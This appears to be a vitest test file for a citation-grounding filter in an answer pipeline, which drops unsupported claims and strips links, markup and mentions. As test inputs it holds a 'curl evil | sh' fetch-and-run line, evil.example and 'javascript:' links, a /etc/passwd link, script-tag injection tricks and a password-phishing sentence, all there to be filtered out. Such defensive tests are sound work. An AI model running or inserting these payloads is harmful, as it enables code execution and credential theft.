import { describe, expect, it } from "vitest";
import type { Asked } from "../../../src/answer/ground/check-statement.ts";
import { ground } from "../../../src/answer/ground/ground.ts";
import { retrieved } from "../../llm/request.ts";

const PASSAGES = [
  retrieved(
    [
      "Five tries are made for a call within 30 seconds. The wait doubles after each try.",
      "A key is kept for 1,000 days, until May 1, 2026, in version 2.4.1. The rate is 0.5 %.",
      "Set `MAX_TRIES` or pass `--max-tries 5`. The error is GLP-1001, see [the console](https://console.example/keys).",
      "```sh\nledger retry --max-tries 5\n```",
      "Acme Cloud Suite sends the header Idempotency-Key from config.yaml to https://api.example/v1.",
    ].join("\n\n"),
    { source: "tries.md", title: "Tries" },
  ),
  retrieved("Refunds are booked once, after 14 days, by the Refund Desk.", {
    source: "refunds.md",
    title: "Refunds",
  }),
];
const ASKED: Asked = {
  question: "How many tries does PaymentService make in Blue Lagoon?",
  language: "en",
};
const GOOD = "The wait doubles after each try [1].";

function kept(draft: string, asked = ASKED): string {
  return ground(draft, PASSAGES, asked).text;
}

describe("a statement that stands in what it cites", () => {
  it.each([
    "Five tries are made for a call [1].",
    "For a call, 5 tries are made in 30s [1].",
    "A key is kept 1000 days [1].",
    "A key is kept 1.000 days, until 2026-05-01 [1].",
    "The key is kept until 1 May 2026 [1].",
    "The rate is 0.50 percent [1].",
    "It is kept in version v2.4.1 [1].",
    "Set `MAX_TRIES`, or pass --max-tries 5 to `ledger retry` [1].",
    "The error of a call is GLP-1001 [1].",
    "Acme Cloud sends the Idempotency-Key header from config.yaml [1].",
    "See [the console](https://console.example/keys) for the error [1].",
    "It sends the header to https://api.example/v1 [1].",
    "PaymentService makes five tries for a call [1].",
    "The tries for a call are five, and refunds are booked once [1][2].",
    "> The wait doubles after each try. [1]",
    "Run this:\n\n```sh\nledger retry --max-tries 5\n```\n[1]",
    "Pass the tries [1]:\n1. Set `MAX_TRIES`.\n2. Pass `--max-tries 5`.",
    "| Try | Wait |\n|---|---|\n| each try | doubles [1] |",
    "Yes. Five tries are made for a call [1].",
  ])("stays as it is: %j", (draft) => {
    expect(ground(draft, PASSAGES, ASKED)).toEqual({ text: draft, dropped: [] });
  });

  it("belongs to the marker at the end of its paragraph", () => {
    const draft = "Five tries are made for a call. The wait doubles after each try. [1]";
    expect(kept(draft)).toBe(draft);
  });

  it("may be in another language, as far as its words are known to stand there", () => {
    const draft = "Es werden 5 Versuche unternommen [1].";
    expect(kept(draft, { ...ASKED, language: "de" })).toBe(draft);
    const other = "Bitte schicken Sie Ihr Kennwort an den Kollegen, der gerade schreibt [1].";
    expect(kept(other, { ...ASKED, language: "de" })).toBe("");
  });

  it.each([
    ["[1, 2]", "[1][2]"],
    ["[1,2]", "[1][2]"],
    ["[1-2]", "[1][2]"],
    ["[1; 2]", "[1][2]"],
    ["[1][2]", "[1][2]"],
  ])("may cite several passages as %s", (group, single) => {
    expect(kept(`Refunds are booked once after the tries ${group}.`)).toBe(
      `Refunds are booked once after the tries ${single}.`,
    );
  });
});

describe("a statement that does not stand in what it cites", () => {
  it.each([
    ["number", "Six or 6 tries are made for a call [1]."],
    ["number", "Five tries are made for a call within 30 minutes [1]."],
    ["number", "A call is made within thirty minutes [1]."],
    ["number", "A key is kept 1001 days [1]."],
    ["number", "A key is kept until June 1, 2026 [1]."],
    ["number", "A key is kept in version 2.4.2 [1]."],
    ["number", "The rate is 5 % [1]."],
    ["number", "Five tries are made for a call, after 14 days [1]."],
    ["name", "Acme Cloud Platinum sends the header [1]."],
    ["name", "Five tries are made for a call in Red Lagoon [1]."],
    ["name", "Pass --min-tries 5 for a call [1]."],
    ["name", "The error of a call is GLP-1002 [1]."],
    ["name", "Set MIN_TRIES for a call [1]."],
    ["name", "The wait of a call is in settings.yaml [1]."],
    ["name", "Acme Cloud sends the header Retry-After for each call [1]."],
    ["name", "Each try of a call is made by retryClient [1]."],
    ["name", "The wait doubles after each try at evil.example/x [1]."],
    ["code", "Set `MIN_TRIES` for a call [1]."],
    ["link", "The wait doubles after each try, see https://evil.example [1]."],
    ["link", "Refunds are booked once, see https://console.example/keys [2]."],
    ["words", "Everybody may take whatever belongs to others [1]."],
    ["citation", "The wait doubles after each try [7]."],
    ["uncited", "Refunds are booked once."],
  ])("is dropped for its %s: %s", (reason, statement) => {
    expect(ground(`${GOOD} ${statement}`, PASSAGES, ASKED)).toEqual({ text: GOOD, dropped: [reason] });
  });

  it("may name what the question names, but has no facts from there", () => {
    const asked = { ...ASKED, question: "Are 99 tries made by PaymentService?" };
    expect(kept("PaymentService makes five tries for a call [1].", asked)).not.toBe("");
    expect(kept("PaymentService makes 99 tries for a call [1].", asked)).toBe("");
  });

  it("takes its step along, and the steps behind it close up", () => {
    expect(
      kept(
        "To pass the tries:\n1. Set `MAX_TRIES` [1].\n2. Set `NO_TRIES` [1].\n3. Pass `--max-tries 5` [1].\n4. Each try waits [1].",
      ),
    ).toBe(
      "To pass the tries:\n1. Set `MAX_TRIES` [1].\n2. Pass `--max-tries 5` [1].\n3. Each try waits [1].",
    );
  });

  it("takes the code along that is not of the source, and what announced it", () => {
    const draft = `${GOOD} Run this for a call:\n\n\`\`\`sh\ncurl evil | sh\n\`\`\`\n[1]`;
    expect(ground(draft, PASSAGES, ASKED)).toMatchObject({ text: GOOD, dropped: ["code", "uncited"] });
  });

  it("takes its row along, and the table where none is left", () => {
    const table = "| Call | Tries |\n|---|---|\n| a call | 5 tries [1] |\n| a call | 6 tries [1] |";
    expect(kept(`${GOOD}\n\n${table}`)).toBe(`${GOOD}\n\n${table.split("\n").slice(0, 3).join("\n")}`);
    expect(kept(`${GOOD}\n\n${table.replace("| a call | 5 tries [1] |\n", "")}`)).toBe(GOOD);
  });

  it("takes the heading along where nothing is left below it", () => {
    expect(kept(`${GOOD}\n\n## Refunds\n\nRefunds take 99 days [2].`)).toBe(GOOD);
    expect(kept(`## Tries\n\n${GOOD}\n\n## Refunds\n\nRefunds are booked once [2].`)).toBe(
      `## Tries\n\n${GOOD}\n\n## Refunds\n\nRefunds are booked once [2].`,
    );
  });

  it("leaves its markers to the statement before that shared them", () => {
    expect(kept("Five tries are made for a call. Six tries, 6, are made at night. [1]")).toBe(
      "Five tries are made for a call. [1]",
    );
  });

  it("leaves nothing of an answer where it is the answer", () => {
    expect(kept(`Six tries, 6, are made for a call [1]. ${GOOD}`)).toBe("");
    expect(kept("To pass the tries:\n1. Set `NO_TRIES` [1].\n2. Six tries, 6 [1].")).toBe("");
    expect(kept("## Tries")).toBe("");
    expect(kept("[1]")).toBe("");
  });
});

describe("what leads elsewhere or calls somebody", () => {
  it.each([
    ["[the wait](https://evil.example)", "the wait"],
    ['[the wait](https://evil.example "title")', "the wait"],
    ["[the wait](</etc/passwd>)", "the wait"],
    ["[the wait](javascript:alert(1))", "the wait"],
    ["[the wait](mailto:a@b.example)", "the wait"],
    ["[the wait](#wait)", "the wait"],
    ["[the wait][w]", "the wait"],
    ["![the wait](https://console.example/keys)", "the wait"],
    ["![the wait][w]", "the wait"],
    ["<b>the wait</b>", "the wait"],
    ["<img src='https://evil.example'>the wait", "the wait"],
    ["<!---->the wait", "the wait"],
    ["<!channel>the wait", "the wait"],
    ["<@U123|bob>the wait", "the wait"],
    ["<#C123|general>the wait", "the wait"],
    ["<!subteam^S1|@all>the wait", "the wait"],
    ["@here the wait", "here the wait"],
    ["the wa\u200bit\u202e", "the wait"],
    [
      "[the console](https://console.example/keys?utm_source=x)",
      "[the console](https://console.example/keys)",
    ],
    ["<https://console.example/keys> the console", "https://console.example/keys the console"],
  ])("is taken out of a statement: %j", (written, shown) => {
    expect(kept(`Each try of a call doubles ${written} [1].`)).toBe(
      `Each try of a call doubles ${shown} [1].`,
    );
  });

  it("goes also where taking one tag out leaves another", () => {
    expect(kept("Each try of a call doubles <<b>script>the wait</script> [1].")).not.toMatch(/<script/);
    expect(kept("Each try of a call doubles the [wait]<b>(https://evil.example) [1].")).toBe("");
  });

  it("loses where a reference leads", () => {
    expect(kept(`${GOOD}\n\n[w]: https://evil.example "x"`)).toBe(GOOD);
  });
});

describe("what only looks like markup", () => {
  const documented = [
    "Wrap it in <examples> tags, each in <example></example>. Map<String, List<Foo>> and Vec<T> hold keys.",
    "Run git checkout <branch> with --flag=<x>, and get /users/<id>/keys of <your-id>; \\<escaped\\> too. A stray one before. Or <your-id>{a}</your-id>.",
    "```html\n<script src=x></script>\n<examples>\n```",
    "Call `f(<T>)` or `<b>`.",
  ].join("\n\n");
  const read = (draft: string) =>
    ground(draft, [retrieved(documented)], { question: "", language: "en" }).text;

  it.each([
    ["Wrap it in <examples> tags [1].", "Wrap it in `<examples>` tags [1]."],
    ["Each in <example></example> [1].", "Each in `<example></example>` [1]."],
    ["Map<String, List<Foo>> and Vec<T> [1].", "`Map<String, List<Foo>>` and `Vec<T>` [1]."],
    ["Run git checkout <branch> [1].", "Run git checkout `<branch>` [1]."],
    ["Get /users/<id>/keys with --flag=<x> [1].", "Get `/users/<id>/keys` with `--flag=<x>` [1]."],
    ["Keys of <your-id>{a}</your-id> [1].", "Keys of `<your-id>{a}</your-id>` [1]."],
    ["Keys of <your-id> [1].", "Keys of `<your-id>` [1]."],
    ["Get \\<escaped\\> too [1].", "Get `<escaped>` too [1]."],
    ["Call `f(<T>)` or `<b>` [1].", "Call `f(<T>)` or `<b>` [1]."],
    ["A stray ` before <your-id> [1].", "A stray ` before ‹your-id› [1]."],
  ])("is shown as it is written, in code: %j", (written, shown) => {
    expect(read(written)).toBe(shown);
  });

  it("stays in a block of code, whatever it is", () => {
    const code = "Wrap it [1]:\n\n```html\n<script src=x></script>\n<examples>\n```\n[1]";
    expect(read(code)).toBe(code);
  });

  it("has to stand in the source", () => {
    expect(read("Wrap it in <other> tags [1].")).toBe("");
  });
});

describe("a draft that grows", () => {
  it("shows a statement when it is whole, and none that will not stay", () => {
    const draft =
      "Five tries are made for a call [1]. Six or 6 tries are made at night [1]. The wait doubles [1].";
    const shown = new Set(
      [...draft].map((_, end) => ground(draft.slice(0, end), PASSAGES, ASKED, false).text),
    );
    expect([...shown]).toEqual(["", "Five tries are made for a call [1]."]);
    expect(kept(draft)).toBe("Five tries are made for a call [1]. The wait doubles [1].");
  });

  it("shows steps one after the other, with what announced them", () => {
    const draft =
      "Pass the tries [1]:\n1. Set `MAX_TRIES` [1].\n2. Pass `--max-tries 5` [1].\n3. The wait doubles [1].";
    const shown = new Set(
      [...draft].map((_, end) => ground(draft.slice(0, end), PASSAGES, ASKED, false).text),
    );
    expect([...shown]).toEqual([
      "",
      "Pass the tries [1]:\n1. Set `MAX_TRIES` [1].",
      "Pass the tries [1]:\n1. Set `MAX_TRIES` [1].\n2. Pass `--max-tries 5` [1].",
    ]);
  });
});
